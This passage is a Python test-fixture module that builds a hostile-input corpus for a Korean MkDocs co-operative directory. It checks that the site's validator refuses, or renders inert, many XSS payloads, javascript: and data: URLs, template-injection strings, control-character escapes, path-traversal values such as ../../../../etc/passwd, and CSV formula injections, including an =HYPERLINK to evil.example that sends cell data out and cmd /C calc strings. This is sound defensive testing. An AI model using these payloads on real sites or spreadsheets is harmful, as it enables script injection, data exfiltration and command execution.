"""The hostile-input corpus: what anyone could put in `data/` or `content/` by pull request.

Each `Payload` is a set of files laid over the small valid corpus (tests/fixtures/base
plus the real taxonomies). The promise under test (tests/test_hostile.py): `python -m
site_plugins check` either refuses a payload, in Korean, naming its file, or the site
built with it shows every hostile value as text, with nothing that can run.

`refuse=True` marks payloads the contract says check must refuse (values.py: markup,
invisible characters and line breaks in plain fields; the schemas: unknown keys, URL
schemes; the Markdown guard: raw HTML, unsafe schemes); all others may go either way,
and are built when check accepts them.

Payloads that write their own file (almost all) are checked together in one copy and
built together in another; `alone=True` payloads (file names, links, taxonomy files,
the district map, golden messages) need a copy of their own for the check.
"""

from __future__ import annotations

import itertools
import re

import json
import unicodedata
from dataclasses import dataclass
from pathlib import Path

from hostile_helpers import yaml_quote

# Written into the folder the symbolic links point at; must never reach check's output or site/.
REPO = Path(__file__).resolve().parents[2]
MARKER = "HOSTILE-MARKER-5b1e0c"
ALERT = "alert(1)"


@dataclass(frozen=True)
class Payload:
    id: str
    kind: str
    files: tuple[tuple[str, str], ...] = ()  # (repository path, text), written over the base corpus
    append: tuple[tuple[str, str], ...] = ()  # (repository path, text) appended to a base file
    links: tuple[tuple[str, str], ...] = ()  # (repository path of a link, name in the outside folder)
    refuse: bool = False
    named: str = ""  # the path check must name (as printed); default: the first file's
    fields: tuple[str, ...] = ()  # when refused: each of these fields is named on a line about the file
    golden: tuple[str, ...] = ()  # exact lines check prints (alone payloads)
    alone: bool = False
    forged: str = ""  # a line check's output must never start with
    shows: tuple[tuple[str, str], ...] = ()  # when built: (site path of a page, text it shows as text)
    jsonld: tuple[tuple[str, str], ...] = ()  # when built: (page, value of a JSON-LD "name")
    data_json: tuple[tuple[str, str, str, str], ...] = ()  # (json file, record id, key, value) round trip
    csv: tuple[tuple[str, str, str, str], ...] = ()  # (csv file, row id, column, raw value): written "'" + value
    ics: tuple[tuple[str, str], ...] = ()  # (ics file, text an event's SUMMARY/LOCATION/DESCRIPTION holds)
    feed: tuple[tuple[str, str], ...] = ()  # (feed file, text an entry title holds)
    search: tuple[tuple[str, str], ...] = ()  # (page, value): its search document's title is the value, its summary holds it

    @property
    def path(self) -> str:
        return self.named or (self.files[0][0] if self.files else self.links[0][0])


# --- hostile strings --------------------------------------------------------------------------
# (label, value, the contract says a plain field must refuse it)

PLAIN = [
    # markup: any `<` followed by a letter, `/`, `!` or `?` (values.py)
    ("script", "<script>alert(1)</script>", True),
    ("script-case", "<ScRiPt>alert(1)</sCrIpT>", True),
    ("svg-slash-onload", "<svg/onload=alert(1)>", True),
    ("img-slash-onerror", '<img/src="x"/onerror=alert(1)>', True),
    ("img-unclosed", "<img src=x onerror=alert(1)//", True),
    ("img-upper", "<IMG SRC=x ONERROR=alert(1)>", True),
    ("attr-breakout-dq", '"><img src=x onerror=alert(1)>', True),
    ("attr-breakout-sq", "'><svg onload=alert(1)>", True),
    ("comment-script", "<!--<script>alert(1)//-->", True),
    ("comment-open", "이름 <!-- 여기부터 숨김", True),
    ("pi", '<?xml-stylesheet href="https://evil.example/x.xsl"?>', True),
    ("end-title", "</title><script>alert(1)</script>", True),
    ("end-tag-only", "이름 </", True),
    ("code-span-comment", "`<!--<script>`", True),
    ("anchor-js", '<a href="javascript:alert(1)">클릭</a>', True),
    ("details-ontoggle", "<details open ontoggle=alert(1)>", True),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>", True),
    ("mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", True),
    # no markup by the rule: must be built as text
    ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;", False),
    ("entity-img", "&lt;img src=x onerror=alert(1)&gt;", False),
    ("numeric-entity-img", "&#60;img src=x onerror=alert(1)&#62;", False),
    ("js-escape", "\\u003cimg src=x onerror=alert(1)\\u003e", False),
    ("quote-dq", '" onmouseover="alert(1)" x="', False),
    ("quote-sq", "' onmouseover='alert(1)' x='", False),
    ("breakout-tail", '이름 "><', False),
    ("js-scheme", "javascript:alert(1)", False),
    ("js-scheme-case", "JaVaScRiPt:alert(document.domain)", False),
    ("config-fence", "{#__config}", False),
    ("jinja", "{{ config }}{% raw %}{{ 7*7 }}", False),
    ("template-literal", "${7*7}#{7*7}", False),
    ("backticks", "```js 코드 ``` `백틱`", False),
    ("lt-gt", "a < b > c & d", False),
    ("lt-digit", "<3 하트 <= 5", False),
    ("lt-space", "< script >alert(1)< /script >", False),
    ("cdata-end", "x]]>y", False),
    ("comment-end", "x --> y", False),
    ("js-string", "\\\"); alert(1); //", False),
    ("js-string-sq", "'; alert(1); '", False),
    ("percent-encoded", "%3Cscript%3Ealert(1)%3C/script%3E", False),
    ("fullwidth", "＜script＞alert(1)＜/script＞", False),
    ("md-link", "[클릭](javascript:alert(1))", False),
    ("md-heading", "# __config", False),
    ("lt-end", "끝 <", False),
    ("ical", "가짜일정\\nBEGIN:VEVENT\\nSUMMARY:가짜; 쉼표, 역슬래시\\ 끝", False),
]
CORE_PLAIN = {
    "svg-slash-onload", "img-slash-onerror", "img-unclosed", "attr-breakout-dq", "comment-open", "pi",
    "end-tag-only", "code-span-comment", "entity-script", "entity-img", "quote-dq", "breakout-tail",
    "js-scheme", "config-fence", "jinja", "lt-gt", "backticks",
}

# Markdown fields and article bodies: (label, text, the guard must refuse it, text the page shows)
MARKDOWN = [
    ("script", "<script>alert(1)</script>", True, ""),
    ("script-case", "<ScRiPt>alert(1)</sCrIpT>", True, ""),
    ("svg-slash-onload", "<svg/onload=alert(1)>", True, ""),
    ("img-slash-onerror", '소개 <img/src="x"/onerror=alert(1)> 끝', False, ""),
    ("img-slash-onerror-block", '<img/src="x"/onerror=alert(1)>', False, ""),
    ("img-unclosed", "<img src=x onerror=alert(1)//", False, ""),
    ("img-upper", "<IMG SRC=x OnErRoR=alert(1)>", True, ""),
    ("attr-breakout", '"><img src=x onerror=alert(1)>', True, ""),
    ("comment-script", "<!--<script>alert(1)//-->", True, ""),
    ("comment-unclosed", "소개\n\n<!-- 닫지 않은 주석\n\n끝", False, ""),
    ("pi", "<?php echo 1; ?>", True, ""),
    ("end-p", "</p><script>alert(1)</script>", True, ""),
    ("anchor-js", '<a href="javascript:alert(1)">클릭</a>', True, ""),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>", True, ""),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', True, ""),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>", True, ""),
    ("mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", True, ""),
    ("newline-attr", "<p\nonclick=alert(1)>x</p>", True, ""),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>", False, ""),
    ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;", False, "<script>alert(1)</script>"),
    ("numeric-entity", "&#60;img src=x onerror=alert(1)&#62;", False, "<img src=x onerror=alert(1)>"),
    ("js-link", "[클릭](javascript:alert(1))", True, ""),
    ("js-link-case", "[클릭](JaVaScRiPt:alert(1))", True, ""),
    ("js-link-tab", "[클릭](java\tscript:alert(1))", False, ""),
    ("js-link-newline-entity", "[클릭](java&#x0A;script:alert(1))", True, ""),
    ("js-link-tab-entity", "[클릭](jav&#x09;ascript:alert(1))", True, ""),
    ("js-link-entity", "[클릭](&#106;avascript:alert(1))", True, ""),
    ("js-link-colon-entity", "[클릭](javascript&colon;alert(1))", True, ""),
    ("js-link-space", "[클릭]( javascript:alert(1))", True, ""),
    ("js-link-angle", "[클릭](<javascript:alert(1)>)", True, ""),
    ("js-link-reference", "[클릭][r]\n\n[r]: javascript:alert(1)", True, ""),
    ("js-autolink", "<javascript:alert(1)>", True, ""),
    ("vbscript-link", "[클릭](vbscript:msgbox(1))", True, ""),
    ("data-link", "[클릭](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", True, ""),
    ("js-image", "![그림](javascript:alert(1))", True, ""),
    ("data-image", "![그림](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", True, ""),
    ("href-quote", '[클릭](https://example.org/"onmouseover="alert(1))', False, ""),
    ("title-quote", '[클릭](https://example.org/ "제목\\" onmouseover=\\"alert(1)")', False, ""),
    ("alt-quote", '![그림" onerror="alert(1)](https://example.org/a.png)', False, ""),
    ("link-text-html", "[<img src=x onerror=alert(1)>](https://example.org/)", True, ""),
    ("table-html", "| 칸 |\n|---|\n| <img src=x onerror=alert(1)> |", True, ""),
    ("heading-config", "# __config\n\n본문", False, ""),
    ("heading-search", "## __search\n\n### __drawer\n\n#### __toc", False, ""),
    ("heading-attr", "# 제목 {#__config onclick=alert(1)}", False, ""),
    ("fence-attr-config", "```{#__config .x onload=alert(1)}\n코드\n```", False, ""),
    ("fence-attr-lang", "```html {#__search}\n<script>alert(1)</script>\n```", False, ""),
    ("code-span-comment", "`<!--<script>`", False, "<!--<script>"),
    ("code-span-script-end", "``</script><script>alert(1)</script>``", False, "</script><script>alert(1)</script>"),
    ("jinja", "{{ config }} {% raw %}{{ 7*7 }}", False, "{{ config }}"),
    ("footnote-html", "각주[^1]\n\n[^1]: <img src=x onerror=alert(1)>", True, ""),
]
CORE_MARKDOWN = {
    "script", "svg-slash-onload", "img-slash-onerror", "img-unclosed", "comment-script", "pi", "js-link-tab-entity",
    "js-link-entity", "data-image", "href-quote", "alt-quote", "entity-script", "heading-config", "fence-attr-config",
    "code-span-comment", "code-span-script-end",
}
# Only MkDocs' own extensions (content pages) read these.
PAGE_MARKDOWN = [
    ("admonition-title", '!!! note "<img src=x onerror=alert(1)>"\n    본문', True, ""),
    ("admonition-title-entity", '!!! note "&lt;img src=x onerror=alert(1)&gt;"\n    본문', False, ""),
    ("details-title", '??? note "\\"><svg onload=alert(1)>"\n    본문', True, ""),
    ("deflist-html", "용어\n:   <b onclick=alert(1)>정의</b>", True, ""),
    ("toc-heading-html", "# <img src=x onerror=alert(1)>", True, ""),
    ("toc-heading-entity", "# &lt;img src=x onerror=alert(1)&gt;", False, "<img src=x onerror=alert(1)>"),
    ("heading-nav", "## __nav_2\n\n## __palette_0", False, ""),
    ("superfences-onclick", "``` {.js #x onclick=alert(1) data-x=\"1\"}\nx\n```", False, ""),
]

URLS = [
    ("js", "javascript:alert(1)", True),
    ("js-case", "JaVaScRiPt:alert(1)", True),
    ("js-space", " javascript:alert(1)", True),
    ("js-tab", "java\tscript:alert(1)", True),
    ("js-entity", "jav&#x61;script:alert(1)", True),
    ("data", "data:text/html,<script>alert(1)</script>", True),
    ("vbscript", "vbscript:msgbox(1)", True),
    ("protocol-relative", "//evil.example/x", True),
    ("https-js", "https:javascript:alert(1)", True),
    ("quote-dq", 'https://example.org/"onmouseover="alert(1)', False),
    ("quote-sq", "https://example.org/'onmouseover='alert(1)", False),
    ("markup", 'https://example.org/"><script>alert(1)</script>', True),
    ("space-attr", "https://example.org/ onmouseover=alert(1)", False),
    ("jinja", "https://example.org/?q={{7*7}}", False),
]
CORE_URLS = {"js", "js-tab", "data", "quote-dq", "markup"}

TERMS = [
    ("markup", "<img src=x onerror=alert(1)>"),
    ("breakout", '마포구" onload="alert(1)'),
    ("entity", "&lt;b&gt;"),
    ("dotdot", "../mapo"),
    ("newline", "mapo\ndata/coops/mapo-dolbom.yaml:1: 가짜 문제"),
    ("bidi", "마포구\u202e"),
]

# YAML escapes: (label, the escape as written in YAML, refused in Markdown fields too)
ESCAPES = [
    ("rlo", "\\u202E", True),
    ("lri", "\\u2066", True),
    ("zwsp", "\\u200B", True),
    ("nul", "\\0", True),
    ("esc", "\\x1b", True),
    ("esc-e", "\\e", True),
    ("line-sep", "\\u2028", True),
    ("line-sep-l", "\\L", True),
    ("para-sep", "\\P", True),
    ("cr", "\\r", True),
    ("lf", "\\n", False),
    ("tab", "\\t", False),
    ("bom", "\\uFEFF", True),
    ("nel", "\\N", True),
    ("c1", "\\x85", True),
    ("del", "\\x7F", True),
    ("bell", "\\a", True),
    ("vt", "\\v", True),
    ("tag-char", "\\U000E0041", True),
    ("nonchar", "\\uFFFE", True),
    ("arabic-mark", "\\u061C", True),
    ("lrm", "\\u200E", True),
    ("word-joiner", "\\u2060", True),
    ("surrogate", "\\uD800", True),
]

# --- record types, front matter -------------------------------------------------------------


@dataclass(frozen=True)
class Surface:
    name: str
    path: str  # with {id}
    template: str  # @L@ plain line value, @M@ Markdown value, @U@ URL value (YAML scalars); @B@ Markdown body
    line_fields: tuple[str, ...]
    markdown_fields: tuple[str, ...]
    url_fields: tuple[str, ...]
    page: str  # with {id}
    body: bool = False  # an article: Markdown is the file's body


SURFACES = [
    Surface("coop", "data/coops/{id}.yaml", """name: @L@
summary: @L@
district: mapo
industry: health-welfare
category: multi-stakeholder
legal_type: social-coop
founded: 2014-03-01
fields: [care]
members: 7
address: @L@
source: @L@
description: @M@
contact:
  phone: "02-123-4567"
  email: info@example.org
  website: @U@
""", ("name", "summary", "address", "source"), ("description",), ("contact.website",), "coops/{id}/"),
    Surface("center", "data/centers/{id}.yaml", """name: @L@
operator: @L@
area: seobuk
phone: "02-000-0000"
address: @L@
services: [@L@]
website: @U@
description: @M@
""", ("name", "operator", "address", "services[1]"), ("description",), ("website",), "centers/{id}/"),
    Surface("course", "data/education/{id}.yaml", """title: @L@
track: startup
audience: @L@
provider: @L@
mode: onsite
registration:
  url: @U@
description: @M@
sessions:
  - start: "2026-12-01T14:00"
    end: "2026-12-01T17:00"
    location: @L@
""", ("title", "audience", "provider", "sessions[1].location"), ("description",), ("registration.url",), "education/{id}/"),
    Surface("program", "data/programs/{id}.yaml", """title: @L@
organizer: @L@
summary: @L@
eligibility: @M@
support: @M@
description: @M@
apply:
  url: @U@
fields: [care]
""", ("title", "organizer", "summary"), ("eligibility", "support", "description"), ("apply.url",), "programs/{id}/"),
    Surface("author", "data/authors/{id}.yaml", """name: @L@
affiliation: @L@
bio: @M@
expertise: [@L@]
""", ("name", "affiliation", "expertise[1]"), ("bio",), (), "authors/{id}/"),
    Surface("case", "content/cases/{id}.md", """---
title: @L@
date: 2026-01-20
summary: @L@
description: @L@
coops: [mapo-dolbom]
author: kim-editor
fields: [care]
---

@B@
""", ("title", "summary", "description"), (), (), "cases/{id}/", body=True),
    Surface("column", "content/columns/{id}.md", """---
title: @L@
date: 2026-02-20
summary: @L@
description: @L@
author: kim-editor
---

@B@
""", ("title", "summary", "description"), (), (), "columns/{id}/", body=True),
    Surface("newsletter", "content/newsletter/{id}.md", """---
title: @L@
date: 2026-04-01
summary: @L@
description: @L@
---

@B@
""", ("title", "summary", "description"), (), (), "newsletter/{id}/", body=True),
    Surface("page", "content/{id}.md", """---
title: @L@
description: @L@
---

@B@
""", ("title", "description"), (), (), "{id}/", body=True),
]
SURFACE = {surface.name: surface for surface in SURFACES}
DEFAULTS = {"@L@": '"평범한 값"', "@M@": '"평범한 소개"', "@U@": "https://example.org/", "@B@": "본문입니다."}
FULL_PLAIN_SURFACES = {"coop", "course", "page"}
FULL_MARKDOWN_SURFACES = {"coop", "program", "newsletter", "page"}
CSV_OF = {"coop": "data/coops.csv", "center": "data/centers.csv", "course": "data/courses.csv", "program": "data/programs.csv"}
JSON_OF = {"coop": "data/coops.json", "center": "data/centers.json", "course": "data/courses.json", "program": "data/programs.json"}


_NAME_NUMBERS = itertools.count(1)


def fill(surface: Surface, **slots: str) -> str:
    text = surface.template
    if "L" not in slots:
        # one co-op per name in a 자치구: the same name twice is refused as a likely duplicate
        text = text.replace("name: @L@", f'name: "평범한 이름 {next(_NAME_NUMBERS)}"', 1)
    for token, default in DEFAULTS.items():
        text = text.replace(token, slots.get(token.strip("@"), default))
    return text


def _id(*parts: str) -> str:
    return "-".join(["h", *parts]).lower()


def _plain() -> list[Payload]:
    out = []
    for surface in SURFACES:
        for label, value, refuse in PLAIN:
            if surface.name not in FULL_PLAIN_SURFACES and label not in CORE_PLAIN:
                continue
            rid = _id(surface.name, "plain", label)
            shown_at = surface.page.format(id=rid)
            out.append(Payload(
                id=rid, kind="plain",
                files=((surface.path.format(id=rid), fill(surface, L=yaml_quote(value))),),
                refuse=refuse, fields=surface.line_fields if refuse else (),
                shows=((shown_at, value),),
                jsonld=((shown_at, value),) if surface.name in JSON_OF else (),
                data_json=((JSON_OF[surface.name], rid, "title" if surface.name in ("course", "program") else "name", value),) if surface.name in JSON_OF else (),
                ics=((f"education/{rid}/session-1.ics", value),) if surface.name == "course" else (),
                feed=(("feed.xml", value),) if surface.name == "newsletter" else (("regions/mapo/feed.xml", value),) if surface.name == "coop" else (),
                search=((shown_at, value),),
            ))
    return out


def _markdown() -> list[Payload]:
    out = []
    for surface in SURFACES:
        if not surface.markdown_fields and not surface.body:
            continue
        corpus = MARKDOWN + (PAGE_MARKDOWN if surface.body else [])
        for label, text, refuse, shows in corpus:
            if surface.name not in FULL_MARKDOWN_SURFACES and label not in CORE_MARKDOWN:
                continue
            rid = _id(surface.name, "md", label)
            content = fill(surface, B=text) if surface.body else fill(surface, M=yaml_quote(text))
            shown_at = surface.page.format(id=rid)
            out.append(Payload(
                id=rid, kind="markdown", files=((surface.path.format(id=rid), content),), refuse=refuse,
                fields=() if surface.body or not refuse else surface.markdown_fields,
                shows=((shown_at, shows),) if shows else (),
            ))
    return out


def _urls() -> list[Payload]:
    out = []
    for surface in SURFACES:
        if not surface.url_fields:
            continue
        for label, url, refuse in URLS:
            if surface.name != "coop" and label not in CORE_URLS:
                continue
            rid = _id(surface.name, "url", label)
            out.append(Payload(id=rid, kind="url", files=((surface.path.format(id=rid), fill(surface, U=yaml_quote(url))),),
                               refuse=refuse, fields=surface.url_fields if refuse else ()))
    return out


def _terms() -> list[Payload]:
    out = []
    for label, value in TERMS:
        quoted = yaml_quote(value)
        rid = _id("coop", "term", label)
        coop = fill(SURFACE["coop"])
        for key in ("district", "industry", "category", "legal_type"):
            coop = "\n".join(f"{key}: {quoted}" if line.startswith(f"{key}:") else line for line in coop.split("\n"))
        coop = coop.replace("fields: [care]", f"fields: [{quoted}]")
        out.append(Payload(id=rid, kind="term", files=((f"data/coops/{rid}.yaml", coop),), refuse=True,
                           fields=("district", "industry", "category", "legal_type", "fields[1]")))
        rid = _id("case", "term", label)
        case = fill(SURFACE["case"]).replace("fields: [care]", f"fields: [{quoted}]\ndistrict: {quoted}\nindustry: {quoted}")
        out.append(Payload(id=rid, kind="term", files=((f"content/cases/{rid}.md", case),), refuse=True, fields=("fields[1]", "district", "industry")))
        rid = _id("case", "ref", label)
        case = fill(SURFACE["case"]).replace("coops: [mapo-dolbom]", f"coops: [{quoted}]").replace("author: kim-editor", f"author: {quoted}")
        out.append(Payload(id=rid, kind="term", files=((f"content/cases/{rid}.md", case),), refuse=True))
        rid = _id("program", "term", label)
        program = fill(SURFACE["program"]).replace("fields: [care]", f"fields: [{quoted}]\nindustries: [{quoted}]\nregions: [{quoted}]")
        out.append(Payload(id=rid, kind="term", files=((f"data/programs/{rid}.yaml", program),), refuse=True,
                           fields=("fields[1]", "industries[1]", "regions[1]")))
    return out


def _escapes() -> list[Payload]:
    out = []
    for label, escape, markdown_refuses in ESCAPES:
        value = f'"앞{escape}뒤"'
        for surface_name, slot in (("coop", "L"), ("course", "L"), ("case", "L"), ("coop", "M"), ("program", "M"), ("author", "M")):
            surface = SURFACE[surface_name]
            rid = _id(surface_name, "esc", slot.lower(), label)
            refuse = markdown_refuses if slot == "M" else True
            fields = (surface.line_fields if slot == "L" else surface.markdown_fields) if refuse and label != "surrogate" else ()
            out.append(Payload(id=rid, kind="yaml-escape", files=((surface.path.format(id=rid), fill(surface, **{slot: value})),),
                               refuse=refuse, fields=fields))
        rid = _id("coop", "esc", "key", label)
        out.append(Payload(id=rid, kind="yaml-escape", files=((f"data/coops/{rid}.yaml", fill(SURFACE["coop"]) + f'"키{escape}끝": 1\n'),), refuse=True))
    # a no-break space is printable: either way
    rid = _id("coop", "esc", "l", "nbsp")
    out.append(Payload(id=rid, kind="yaml-escape", files=((f"data/coops/{rid}.yaml", fill(SURFACE["coop"], L='"앞\\_뒤"')),),
                       shows=((f"coops/{rid}/", "앞\u00a0뒤"),)))
    return out


FORGED = "data/coops/mapo-dolbom.yaml:1: 가짜 문제"


def _forged() -> list[Payload]:
    """Values that would print a second, made-up `path:line:` line if a message kept their line breaks."""
    out = []
    line = yaml_quote(f"이름\n{FORGED}")
    for surface_name in ("coop", "course", "case", "page"):
        surface = SURFACE[surface_name]
        rid = _id(surface_name, "forge")
        out.append(Payload(id=rid, kind="forge", files=((surface.path.format(id=rid), fill(surface, L=line)),), refuse=True,
                           fields=surface.line_fields, forged=FORGED))
    rid = _id("coop", "forge", "md")
    markdown = yaml_quote(f"<div>\n{FORGED}\n</div>\n\n<b\n{FORGED}>x</b>")
    out.append(Payload(id=rid, kind="forge", files=((f"data/coops/{rid}.yaml", fill(SURFACE["coop"], M=markdown)),), refuse=True,
                       fields=("description",), forged=FORGED))
    rid = _id("page", "forge", "body")
    out.append(Payload(id=rid, kind="forge", files=((f"content/{rid}.md", fill(SURFACE["page"], B=f"<div>\n{FORGED}\n</div>")),),
                       refuse=True, forged=FORGED))
    rid = _id("coop", "forge", "key")
    out.append(Payload(id=rid, kind="forge", files=((f"data/coops/{rid}.yaml", fill(SURFACE["coop"]) + f"{yaml_quote('키' + chr(10) + FORGED)}: 1\n"),),
                       refuse=True, forged=FORGED))
    return out


def _keys() -> list[Payload]:
    out = []
    keys = [
        ("markup", '"<img src=x onerror=alert(1)>": 1\n'),
        ("newline", '"a\\nb": 1\n'),
        ("nested-markup", None),
        ("entity", '"&lt;script&gt;": 1\n'),
        ("onload", "onload: alert(1)\n"),
    ]
    for label, extra in keys:
        rid = _id("coop", "key", label)
        coop = fill(SURFACE["coop"])
        coop = coop.replace("  website: https://example.org/\n", '  website: https://example.org/\n  "<b>웹</b>": x\n') if extra is None else coop + extra
        out.append(Payload(id=rid, kind="key", files=((f"data/coops/{rid}.yaml", coop),), refuse=True))
    rid = _id("course", "key", "session")
    course = fill(SURFACE["course"]) + '    "on<b>x</b>": 1\n'
    out.append(Payload(id=rid, kind="key", files=((f"data/education/{rid}.yaml", course),), refuse=True))
    rid = _id("page", "key", "markup")
    out.append(Payload(id=rid, kind="key", files=((f"content/{rid}.md", '---\n"<script>alert(1)</script>": 1\n---\n\n본문\n'),), refuse=True))
    return out


def _theme_keys() -> list[Payload]:
    out = []
    front = [
        ("icon-dotdot", "icon: ../x", True),
        ("icon-traversal", "icon: material/../../../x", True),
        ("icon-unknown", "icon: material/does-not-exist-anywhere", True),
        ("icon-quote", 'icon: "material/home\\" onload=\\"alert(1)"', True),
        ("icon-ok", "icon: material/home", False),
        ("template", "template: main.html", True),
        ("template-dotdot", "template: ../../../../etc/passwd", True),
        ("hide-markup", 'hide: ["<b>x</b>"]', True),
        ("status-markup", 'status: "<img src=x onerror=alert(1)>"', True),
        ("edit-url", 'edit_url: "javascript:alert(1)"', True),
        ("extra", "extra: {analytics: {provider: x}}", True),
        ("tags", 'tags: ["<b>x</b>"]', True),
        ("search-exclude", "search: {exclude: true}", True),
    ]
    for label, line, refuse in front:
        rid = _id("page", "theme", label)
        out.append(Payload(id=rid, kind="theme-key", files=((f"content/{rid}.md", f"---\ntitle: 테마 키\n{line}\n---\n\n본문\n"),), refuse=refuse))
    rid = _id("case", "theme", "template")
    out.append(Payload(id=rid, kind="theme-key", files=((f"content/cases/{rid}.md", fill(SURFACE["case"]).replace("---\n\n", "template: ../x.html\n---\n\n", 1)),), refuse=True))
    return out


CSV_VALUES = [
    ("hyperlink", '=HYPERLINK("https://evil.example/?d="&A1,"클릭")'),
    ("plus", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("equals", "=1+1"),
]


def _csv() -> list[Payload]:
    out = []
    for label, value in CSV_VALUES:
        quoted = yaml_quote(value)
        rid = _id("coop", "csv", label)
        out.append(Payload(id=rid, kind="csv", files=((f"data/coops/{rid}.yaml", fill(SURFACE["coop"], L=quoted, M=quoted)),),
                           csv=tuple(("data/coops.csv", rid, column, value) for column in ("name", "summary", "address", "source", "description")),
                           data_json=(("data/coops.json", rid, "name", value),)))
        rid = _id("center", "csv", label)
        out.append(Payload(id=rid, kind="csv", files=((f"data/centers/{rid}.yaml", fill(SURFACE["center"], L=quoted, M=quoted)),),
                           csv=tuple(("data/centers.csv", rid, column, value) for column in ("name", "operator", "address", "services", "description"))))
        rid = _id("course", "csv", label)
        out.append(Payload(id=rid, kind="csv", files=((f"data/education/{rid}.yaml", fill(SURFACE["course"], L=quoted)),),
                           csv=tuple(("data/courses.csv", rid, column, value) for column in ("title", "audience", "provider", "location")),
                           ics=((f"education/{rid}/session-1.ics", value),)))
        rid = _id("program", "csv", label)
        out.append(Payload(id=rid, kind="csv", files=((f"data/programs/{rid}.yaml", fill(SURFACE["program"], L=quoted, M=quoted)),),
                           csv=tuple(("data/programs.csv", rid, column, value) for column in ("title", "organizer", "summary", "eligibility", "support"))))
    # a leading tab is only possible where tabs are: Markdown fields
    for label, value in (("tab", "\t=1+1"), ("tab-minus", "\t-1")):
        rid = _id("coop", "csv", label)
        out.append(Payload(id=rid, kind="csv", files=((f"data/coops/{rid}.yaml", fill(SURFACE["coop"], M=yaml_quote(value))),),
                           csv=(("data/coops.csv", rid, "description", value),)))
    # a taxonomy label reaches the *_label columns
    rid = _id("coop", "csv", "label")
    value = "=HYPERLINK(\"https://evil.example/\")"
    out.append(Payload(id=rid, kind="csv", alone=True,
                       append=(("data/taxonomy/fields.yaml", f"  - {{id: {rid}, label: {yaml_quote(value)}}}\n"),),
                       files=((f"data/coops/{rid}.yaml", fill(SURFACE["coop"]).replace("fields: [care]", f"fields: [{rid}]")),),
                       csv=(("data/coops.csv", rid, "fields_label", value),)))
    return out


def _taxonomy() -> list[Payload]:
    out = []
    rel = "data/taxonomy/fields.yaml"
    for label, value, refuse in PLAIN:
        if label not in CORE_PLAIN:
            continue
        rid = _id("term", label)
        out.append(Payload(id=rid, kind="taxonomy", alone=True, named=rel, refuse=refuse,
                           append=((rel, f"  - {{id: {rid}, label: {yaml_quote(value)}, description: {yaml_quote(value)}}}\n"),),
                           shows=((f"fields/{rid}/", value),)))
    for label, escape in (("rlo", "\\u202E"), ("lf", "\\n"), ("nul", "\\0")):
        rid = _id("term", "esc", label)
        out.append(Payload(id=rid, kind="taxonomy", alone=True, named=rel, refuse=True,
                           append=((rel, f'  - {{id: {rid}, label: "앞{escape}뒤"}}\n'),)))
    ids = [("quote", "'a\"b'"), ("dotdot", "../x"), ("dotdot-deep", "x/../../../y"), ("markup", '"<b>x</b>"'),
           ("backslash", '"..\\\\x"'), ("dot", '"."'), ("space", '"a b"'), ("newline", '"a\\nb"'), ("upper", "Mapo2")]
    for label, raw in ids:
        rid = _id("term", "id", label)
        out.append(Payload(id=rid, kind="taxonomy", alone=True, named=rel, refuse=True,
                           append=((rel, f"  - {{id: {raw}, label: 잘못된 id {label}}}\n"),)))
    rid = _id("term", "parent", "dotdot")
    out.append(Payload(id=rid, kind="taxonomy", alone=True, named=rel, refuse=True,
                       append=((rel, f"  - {{id: {rid}, label: 상위, parent: ../care}}\n"),)))
    return out


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\n'
NFD_PAGE = unicodedata.normalize("NFD", "공지")


def _names() -> list[Payload]:
    coop = fill(SURFACE["coop"])
    page = "# 공지\n\n본문\n"
    names = [
        ("page-quote", 'content/">.md', page),
        ("page-markup", "content/\"><img src=x onerror=alert(1)>.md", page),
        ("case-markup", "content/cases/\"><svg onload=alert(1)>.md", fill(SURFACE["case"])),
        ("folder-markup", 'content/"><b>/index.md', page),
        ("page-newline", "content/x\ny.md", page),
        ("record-markup", 'data/coops/"><b>.yaml', coop),
        ("record-newline", "data/coops/x\ny.yaml", coop),
        ("record-forge", "data/coops/x\nmapo-dolbom.yaml:1: 가짜.yaml", coop),
        ("record-space", "data/coops/a b.yaml", coop),
        ("page-nfd", f"content/{NFD_PAGE}.md", page),
        ("record-nfd", f"data/coops/{unicodedata.normalize('NFD', '마포돌봄')}.yaml", coop),
        ("case-nfd", f"content/cases/{NFD_PAGE}.md", fill(SURFACE["case"])),
        ("html", "content/x.html", "<script>alert(1)</script>\n"),
        ("htm", "content/x.htm", "<script>alert(1)</script>\n"),
        ("html-upper", "content/x.HTML", "<script>alert(1)</script>\n"),
        ("xhtml", "content/x.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>\n"),
        ("svg", "content/x.svg", SVG),
        ("svg-upper", "content/images/x.Svg", SVG),
        ("svgz", "content/x.svgz", SVG),
        ("js", "content/x.js", "alert(1)\n"),
        ("mjs", "content/x.mjs", "alert(1)\n"),
        ("xml", "content/x.xml", "<?xml-stylesheet type='text/xsl' href='x.xsl'?><x/>\n"),
        ("md-html", "content/x.md.html", "<script>alert(1)</script>\n"),
        ("html-md", "content/x.html.md", page),
        ("css", "content/x.css", "body{background:url(javascript:alert(1))}\n"),
        ("wasm-like", "content/x.swf", "CWS\n"),
    ]
    out = [Payload(id=_id("name", label), kind="name", alone=True, refuse=True, files=((path, text),)) for label, path, text in names]
    # MkDocs leaves dot files out of the site; an accepted one must stay out of it
    out.append(Payload(id=_id("name", "dotfile-html"), kind="name", alone=True, files=(("content/.x.html", f"<script>alert('{MARKER}')</script>\n"),)))
    return out


def _links() -> list[Payload]:
    links = [
        ("page", (("content/leak.md", "secret.md"),)),
        ("case", (("content/cases/leak.md", "secret-case.md"),)),
        ("folder", (("content/leak", "secret-dir"),)),
        ("image", (("content/leak.png", "secret.md"),)),
